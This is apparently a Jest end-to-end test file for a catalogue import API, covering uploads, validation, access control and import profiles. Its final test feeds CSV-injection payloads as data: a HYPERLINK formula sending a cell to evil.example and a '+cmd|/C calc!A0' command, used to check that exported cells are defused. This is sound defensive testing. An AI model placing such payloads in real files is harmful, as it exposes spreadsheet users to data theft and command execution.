import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { waitFor } from '@pjs/testing';
import { createImportServices, loadDbuConfig, type ImportServices } from '../../src';
import { DbuWebContext, tokenHeader, type WebApp } from '../e2e/support/dbu-web';
import { HEADER, csvLine, quietLogger } from './support/dbu-test-context';

const LIMIT = 64 * 1024;
const csv = (rows: string[]) => Buffer.from([HEADER, ...rows].join('\n'), 'utf8');

describe('imports API (dbu-web)', () => {
  let ctx: DbuWebContext;
  let web: WebApp;
  let mediaDir: string;
  let worker: ImportServices;
  const admin = () => tokenHeader(ctx.admin.token);
  const user = () => tokenHeader(ctx.user.token);

  beforeAll(async () => {
    ctx = await DbuWebContext.create('imports_api');
    mediaDir = await mkdtemp(join(tmpdir(), 'dbu-media-'));
    web = await ctx.start({ MEDIA_DIR: mediaDir, UPLOAD_LIMIT_BYTES: String(LIMIT) });
    // Plays dbu-worker's part in-process (the worker itself is tested in worker.test.ts).
    worker = await createImportServices(
      await loadDbuConfig({ DATABASE_URL: ctx.databaseUrl, MEDIA_DIR: mediaDir }),
      ctx.dataSource,
      quietLogger(),
    );
  });

  afterAll(async () => {
    await worker.close();
    await ctx.close();
    await rm(mediaDir, { recursive: true, force: true });
  });

  const upload = (
    content: Buffer,
    fields: Record<string, string> = {},
    name = 'katalog.csv',
    path = '/api/imports/',
  ) => {
    let req = web.http().post(path).set(admin());
    for (const [key, value] of Object.entries(fields)) req = req.field(key, value);
    return req.attach('file', content, name);
  };

  describe('POST /api/imports/', () => {
    it('stores the file, queues the import for the worker and answers 202 with the import id', async () => {
      const res = await upload(
        csv([csvLine({ item_no: 'API-1', title: 'Eins' }), csvLine({ item_no: 'API-2', title: '' })]),
      );
      expect(res.status).toBe(202);
      expect(res.body).toMatchObject({
        id: expect.stringMatching(/^[0-9a-f-]{36}$/),
        url: `/api/imports/${res.body.id}/`,
        kind: 'catalogue',
        status: 'queued',
        source: 'upload',
        requested_by: ctx.admin.username,
        file: { name: 'katalog.csv', format: 'csv', stored: true, size: expect.any(Number) },
      });
      const [job] = await ctx.dataSource.query(
        `SELECT type, envelope -> 'data' ->> 'import_id' AS import_id FROM outbox_messages WHERE type = 'dbu.import.requested'`,
      );
      expect(job).toEqual({ type: 'dbu.import.requested', import_id: res.body.id });
      // dbu-web's relay publishes it to the worker's queue (declared by dbu-web too).
      await waitFor(async () => {
        const [row] = await ctx.dataSource.query(
          `SELECT published_at FROM outbox_messages WHERE type = 'dbu.import.requested'`,
        );
        return row.published_at !== null;
      }, 10_000);

      await worker.runner.execute(res.body.id, { finalAttempt: true });
      const detail = await web.http().get(`/api/imports/${res.body.id}/`).set(admin());
      expect(detail.status).toBe(200);
      expect(detail.body).toMatchObject({
        status: 'succeeded',
        progress: { phase: 'done', rows_done: 2, percent: 100 },
        counts: { total_rows: 2, new: 1, changed: 0, unchanged: 0, invalid: 1, blank: 0 },
        timings: { parse_seconds: expect.any(Number), merge_seconds: expect.any(Number) },
        columns: { unmapped: [] },
        changed_items_url: `/api/products/?changed_in_import=${res.body.id}`,
        rejected_rows: {
          count: 1,
          csv_url: `/api/imports/${res.body.id}/errors.csv`,
          sample: [{ row: 3, errors: [{ column: 'Bezeichnung', value: '', reason: 'title is missing' }] }],
        },
      });

      const errors = await web.http().get(`/api/imports/${res.body.id}/errors.csv`).set(admin());
      expect(errors.status).toBe(200);
      expect(errors.headers['content-type']).toMatch(/^text\/csv/);
      const lines = errors.text
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n');
      expect(lines[0]).toBe(`row;${HEADER};errors`);
      expect(lines[1]).toBe(`3;API-2;;;;;;;;;;;;Bezeichnung: title is missing`);
    });

    it('recognises the same file again (409 naming the import) unless forced', async () => {
      const content = csv([csvLine({ item_no: 'DUP-1', title: 'Doppelt' })]);
      const first = await upload(content);
      expect(first.status).toBe(202);
      const again = await upload(content, {}, 'other-name.csv');
      expect(again.status).toBe(409);
      expect(again.body).toMatchObject({ statusCode: 409, code: 'duplicate_import', import_id: first.body.id });
      const forced = await upload(content, { force: 'true' });
      expect(forced.status).toBe(202);
      expect(forced.body.force).toBe(true);
      const dry = await upload(content, { dry_run: 'true', error_policy: 'reject-all' });
      expect(dry.status).toBe(202);
      expect(dry.body).toMatchObject({ dry_run: true, error_policy: 'reject-all' });
    });

    it('judges the file by content: an XLSX named .txt is accepted, a PDF named .csv is refused', async () => {
      const xlsx = Buffer.from([0x50, 0x4b, 0x03, 0x04, ...Buffer.from('rest of a zip')]);
      expect((await upload(xlsx, {}, 'export.txt')).body).toMatchObject({ file: { format: 'xlsx' } });
      const pdf = await upload(Buffer.from('%PDF-1.7 not a catalogue'), {}, 'katalog.csv');
      expect(pdf.status).toBe(400);
      expect(pdf.body).toMatchObject({
        code: 'validation_failed',
        errors: [{ field: 'file', message: expect.stringMatching(/PDF/) }],
      });
    });

    it('answers 400 naming the field for a missing file or a bad option', async () => {
      const none = await web.http().post('/api/imports/').set(admin()).field('dry_run', 'true');
      expect(none.status).toBe(400);
      expect(none.body.errors).toEqual([{ field: 'file', message: expect.stringMatching(/is required/) }]);
      const badPolicy = await upload(csv([csvLine({ item_no: 'X', title: 'x' })]), { error_policy: 'ignore' });
      expect(badPolicy.status).toBe(400);
      expect(badPolicy.body.errors[0].field).toBe('error_policy');
      const badProfile = await upload(csv([csvLine({ item_no: 'Y', title: 'y' })]), { profile: 'nope' });
      expect(badProfile.status).toBe(400);
      expect(badProfile.body.errors[0]).toEqual({ field: 'profile', message: 'no import profile "nope"' });
    });

    it('answers 413 as JSON for a file over UPLOAD_LIMIT_BYTES, announced or streamed', async () => {
      const over = Buffer.concat([csv([]), Buffer.alloc(LIMIT + 10, 0x41)]);
      const streamed = await upload(over);
      expect(streamed.status).toBe(413);
      expect(streamed.body).toMatchObject({ statusCode: 413, code: 'payload_too_large' });
      const announced = await upload(Buffer.concat([over, Buffer.alloc(LIMIT * 2, 0x41)]));
      expect(announced.status).toBe(413);
      expect(announced.body.code).toBe('payload_too_large');
      // The partial file is gone and nothing was stored under the content's hash.
      expect(await readdir(join(mediaDir, 'uploads', 'tmp'))).toEqual([]);
      const runs = await ctx.dataSource.query(`SELECT count(*)::int AS n FROM import_runs WHERE file_size > $1`, [
        LIMIT,
      ]);
      expect(runs[0].n).toBe(0);
      // The connection stays usable after the refusal.
      expect((await web.http().get('/api/imports/').set(admin())).status).toBe(200);
    });

    it('is for admins only (401 anonymous, 403 users)', async () => {
      expect((await web.http().post('/api/imports/').attach('file', csv([]), 'a.csv')).status).toBe(401);
      const forbidden = await web.http().post('/api/imports/').set(user()).attach('file', csv([]), 'a.csv');
      expect(forbidden.status).toBe(403);
      expect(forbidden.body).toMatchObject({ code: 'insufficient_scope', scope: 'imports' });
    });
  });

  describe('GET /api/imports/', () => {
    it('lists runs newest first with filters and pages; without the trailing slash too', async () => {
      const all = await web.http().get('/api/imports').set(admin());
      expect(all.status).toBe(200);
      expect(all.body.count).toBeGreaterThanOrEqual(5);
      const page = await web.http().get('/api/imports/?status=succeeded&page_size=1').set(admin());
      expect(page.body).toMatchObject({ count: 1, page: 1, page_size: 1, results: [{ status: 'succeeded' }] });
      expect(page.body).toMatchObject({ next: null, previous: null });
      const first = await web.http().get('/api/imports/?page_size=2').set(admin());
      expect(first.body.next).toMatch(/\/api\/imports\/\?page_size=2&page=2$/);
      expect((await web.http().get('/api/imports/?page=99').set(admin())).status).toBe(404);
      const bad = await web.http().get('/api/imports/?status=done&page_size=1000').set(admin());
      expect(bad.status).toBe(400);
      expect(bad.body.errors.map((e: { field: string }) => e.field).sort()).toEqual(['page_size', 'status']);
    });

    it('answers 404 for unknown imports, 401/403 without an admin token', async () => {
      expect((await web.http().get('/api/imports/00000000-0000-4000-8000-000000000000/').set(admin())).status).toBe(
        404,
      );
      expect((await web.http().get('/api/imports/not-an-id/').set(admin())).body.code).toBe('not_found');
      expect((await web.http().get('/api/imports/not-an-id/errors.csv').set(admin())).status).toBe(404);
      expect((await web.http().get('/api/imports/').set(user())).status).toBe(403);
      expect((await web.http().get('/api/imports/x/errors.csv')).status).toBe(401);
    });
  });

  describe('POST /api/gpsr/', () => {
    it('queues a GPSR spreadsheet as an import of kind gpsr', async () => {
      const res = await upload(
        Buffer.from('Hersteller;Anschrift\nFunko;Musterweg 1, 12345 Berlin\n'),
        {},
        'gpsr.csv',
        '/api/gpsr/',
      );
      expect(res.status).toBe(202);
      expect(res.body).toMatchObject({ kind: 'gpsr', status: 'queued' });
      expect((await web.http().post('/api/gpsr/').set(user()).attach('file', csv([]), 'a.csv')).status).toBe(403);
      expect((await web.http().post('/api/gpsr/').set(admin())).status).toBe(400);
    });
  });

  describe('/api/import-profiles/', () => {
    it('creates a profile whose map is suggested from sample headers, and reads, changes and deletes it', async () => {
      const created = await web
        .http()
        .post('/api/import-profiles/')
        .set(admin())
        .send({
          name: 'Großhändler A',
          delimiter: ';',
          sample_headers: ['Art.-Nr.', 'Artikelbezeichnung', 'VK', 'Lager'],
        });
      expect(created.status).toBe(201);
      expect(created.body).toMatchObject({
        name: 'Großhändler A',
        delimiter: ';',
        decimal_separator: ',',
        date_format: 'DD.MM.YYYY',
        encoding: 'auto',
        column_map: { 'Art.-Nr.': 'item_no', Artikelbezeichnung: 'title', VK: 'rrp' },
        suggestion: { unmapped: [{ header: 'Lager', reason: 'no field matches this header' }], missing_required: [] },
      });
      const id = created.body.id as number;
      expect((await web.http().get(`/api/import-profiles/${id}/`).set(admin())).body.name).toBe('Großhändler A');
      const patched = await web
        .http()
        .patch(`/api/import-profiles/${id}`)
        .set(admin())
        .send({ encoding: 'windows-1252', is_default: true });
      expect(patched.body).toMatchObject({ encoding: 'windows-1252', is_default: true, delimiter: ';' });
      const replaced = await web.http().put(`/api/import-profiles/${id}/`).set(admin()).send({ name: 'Großhändler A' });
      expect(replaced.body).toMatchObject({ delimiter: 'auto', encoding: 'auto', column_map: {}, is_default: false });
      const list = await web.http().get('/api/import-profiles/').set(admin());
      expect(list.body.results.map((p: { id: number }) => p.id)).toContain(id);
      expect((await web.http().delete(`/api/import-profiles/${id}/`).set(admin())).status).toBe(204);
      expect((await web.http().get(`/api/import-profiles/${id}/`).set(admin())).status).toBe(404);
      expect((await web.http().delete(`/api/import-profiles/${id}/`).set(admin())).status).toBe(404);
    });

    it('suggests a mapping for headers', async () => {
      const res = await web
        .http()
        .post('/api/import-profiles/suggest/')
        .set(admin())
        .send({ headers: ['SKU', 'Title', 'MSRP', 'Color'] });
      expect(res.status).toBe(200);
      expect(res.body.columns.map((c: { field: string }) => c.field)).toEqual(['item_no', 'title', 'rrp']);
      expect(res.body.unmapped).toEqual([{ index: 3, header: 'Color', reason: 'no field matches this header' }]);
      expect((await web.http().post('/api/import-profiles/suggest/').set(admin()).send({})).body.errors[0].field).toBe(
        'headers',
      );
    });

    it('answers 400 naming the field, 409 for a taken name, 404, 401 and 403', async () => {
      const bad = await web
        .http()
        .post('/api/import-profiles/')
        .set(admin())
        .send({ name: 'B', delimiter: 'x', encoding: 'ebcdic' });
      expect(bad.status).toBe(400);
      expect(bad.body.errors.map((e: { field: string }) => e.field).sort()).toEqual(['delimiter', 'encoding']);
      const badMap = await web
        .http()
        .post('/api/import-profiles/')
        .set(admin())
        .send({ name: 'C', column_map: { Preis: 'price' } });
      expect(badMap.status).toBe(400);
      expect(badMap.body.errors).toEqual([
        { field: 'column_map.Preis', message: expect.stringMatching(/^must be null or one of/) },
      ]);
      const noName = await web.http().post('/api/import-profiles/').set(admin()).send({});
      expect(noName.body.errors[0].field).toBe('name');
      expect((await web.http().post('/api/import-profiles/').set(admin()).send({ name: 'Dup' })).status).toBe(201);
      const dup = await web.http().post('/api/import-profiles/').set(admin()).send({ name: 'Dup' });
      expect(dup.status).toBe(409);
      expect(dup.body.code).toBe('profile_exists');
      expect(
        (await web.http().patch('/api/import-profiles/999999/').set(admin()).send({ encoding: 'latin1' })).status,
      ).toBe(404);
      expect((await web.http().get('/api/import-profiles/abc/').set(admin())).status).toBe(404);
      expect((await web.http().get('/api/import-profiles/')).status).toBe(401);
      expect((await web.http().get('/api/import-profiles/').set(user())).status).toBe(403);
      expect((await web.http().post('/api/import-profiles/').set(user()).send({ name: 'U' })).status).toBe(403);
    });
  });

  it('keeps admin routes to ADMIN_ALLOWED_IPS (403 from other addresses)', async () => {
    const restricted = await ctx.start({ MEDIA_DIR: mediaDir, ADMIN_ALLOWED_IPS: '10.9.9.9' });
    const res = await restricted.http().get('/api/imports/').set(admin());
    expect(res.status).toBe(403);
    expect(res.body.code).toBe('address_not_allowed');
  });

  describe('an import whose upload file expired', () => {
    it('is still answered with its counts and rejected rows, file.stored false; the API says files expire', async () => {
      const res = await upload(
        csv([csvLine({ item_no: 'EXP-1', title: 'Bleibt' }), csvLine({ item_no: 'EXP-2', title: '' })]),
      );
      await worker.runner.execute(res.body.id, { finalAttempt: true });
      const { sha256 } = res.body.file as { sha256: string };
      // What dbu-cleanup does CLEANUP_OLDER_THAN after the upload (tested in cleanup-uploads.test.ts).
      await rm(worker.media.uploadPath(sha256));
      const detail = await web.http().get(`/api/imports/${res.body.id}/`).set(admin());
      expect(detail.status).toBe(200);
      expect(detail.body).toMatchObject({
        status: 'succeeded',
        file: { stored: false, sha256 },
        counts: { new: 1, invalid: 1 },
        rejected_rows: { count: 1 },
      });
      const errors = await web.http().get(`/api/imports/${res.body.id}/errors.csv`).set(admin());
      expect(errors.status).toBe(200);
      expect(errors.text).toContain('EXP-2');
      const docs = await web.http().get('/api/docs/openapi.json').set(admin());
      const documented = JSON.stringify(docs.body);
      expect(documented).toContain('Its upload file expires after CLEANUP_OLDER_THAN');
      expect(documented).toContain('dbu-cleanup deletes them CLEANUP_OLDER_THAN');
    });
  });

  describe('GET /api/imports/:id/errors.csv', () => {
    it('defuses formulas in the rejected-rows CSV (cells starting with = + - @ tab CR)', async () => {
      const formula = '=HYPERLINK("http://evil.example/?"&A1,"Details")';
      const res = await upload(
        csv([
          csvLine({ item_no: 'CSV-INJ-1', title: '', manufacturer: formula, license: '@SUM(A1)', ek: '-2+3' }),
          csvLine({ item_no: 'CSV-INJ-2', title: '', category: '+cmd|/C calc!A0', description: '\t=1' }),
        ]),
      );
      expect(res.status).toBe(202);
      await worker.runner.execute(res.body.id, { finalAttempt: true });
      const errors = await web.http().get(`/api/imports/${res.body.id}/errors.csv`).set(admin());
      expect(errors.status).toBe(200);
      const text = errors.text.replace(/^\uFEFF/, '');
      // No cell (unquoted or quoted) starts with a formula character any more.
      const cells = text.match(/(?<=^|;|\r\n)("(?:[^"]|"")*"|[^;\r\n]*)/g) ?? [];
      const unquoted = cells.map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
      expect(unquoted.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(text).toContain(`"'${formula.replace(/"/g, '""')}"`);
      expect(text).toContain(`"'@SUM(A1)"`);
      expect(text).toContain(`"'+cmd|/C calc!A0"`);
      expect(text).toContain(`"'\t=1"`);
    });
  });
});
